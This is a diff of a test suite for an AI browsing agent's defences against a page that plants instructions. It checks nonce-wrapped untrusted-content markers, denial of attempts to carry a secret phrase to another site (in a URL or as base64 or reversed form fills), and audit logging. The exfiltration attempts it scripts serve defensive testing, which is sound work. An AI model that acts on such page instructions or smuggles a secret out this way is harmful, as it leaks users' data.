@@ -32,7 +32,7 @@ describe('a page that tells the agent what to do', () => {
     const read = words(await turn.tool('text', {}));
     const nonce = /BEGIN UNTRUSTED EXTERNAL CONTENT ([0-9a-f]{16})/.exec(read)[1];
     assert.equal(read.split(`END UNTRUSTED EXTERNAL CONTENT ${nonce}`).length, 2, 'one end, and the page could not write it');
-    const [{ conversationId }] = (await scene.home.ok(['audit', '-n', '1', '--json'])).trim().split('\n').map((line) => JSON.parse(line));
+    const [{ conversationId }] = JSON.parse(await scene.home.ok(['audit', '-n', '1', '--json']));
     await scene.home.ok(['policy', 'allow', 'act', '--conversation', conversationId]);
     const going = turn.tool('goto', { url: `${other.origin}/?d=correct+horse+battery+staple+velvet+moon` });
     const asked = await scene.approval();
@@ -79,7 +79,7 @@ describe('a page that tells the agent what to do', () => {
     await denied('click', { selector: 'text=Search it' }, /carry/);
     await turn.tool('click', { selector: '[name=d]' });
     await denied('press', { key: 'Enter' }, /carry/);
-    assert.ok(!(await turn.tool('click', { selector: 'text=Stay here' })).isError, 'a link of the same site is no question');
+    assert.ok(!(await turn.tool('click', { selector: 'text=Stay here' })).isError, 'a link of the same site is not a question');
     await scene.home.ok(['goto', `${other.origin}/form`]);
     await denied('fill', { selector: '#name', value: Buffer.from(phrase).toString('base64') }, /carry/);
     await denied('fill', { selector: '#name', value: [...phrase].reverse().join('') }, /carry/);
@@ -93,11 +93,12 @@ describe('a page that tells the agent what to do', () => {
 
   test('what was decided is written down without what was typed', async () => {
     const text = await scene.home.ok(['audit', '-n', '20', '--json']);
-    const lines = text.trim().split('\n').map((line) => JSON.parse(line));
+    const lines = JSON.parse(text);
     assert.ok(lines.some((line) => line.action.startsWith('goto') && !line.allowed && line.by === 'terminal'), text);
     assert.ok(lines.some((line) => line.action.startsWith('fill') && !line.allowed && line.by === 'panel'), text);
     assert.ok(lines.some((line) => line.action === 'policy add' && line.by === 'terminal'), text);
-    assert.ok(!text.includes('the phrase'), 'what was typed is counted, not kept');
+    assert.ok(lines.every((line) => !line.action.includes('the phrase')), 'the short form counts what was typed');
+    assert.ok(lines.some((line) => line.record?.command.includes('the phrase')), 'the record keeps all that the person was shown');
     const file = path.join(scene.home.home, 'audit.jsonl');
     assert.equal(statSync(file).mode & 0o777, 0o600);
   });
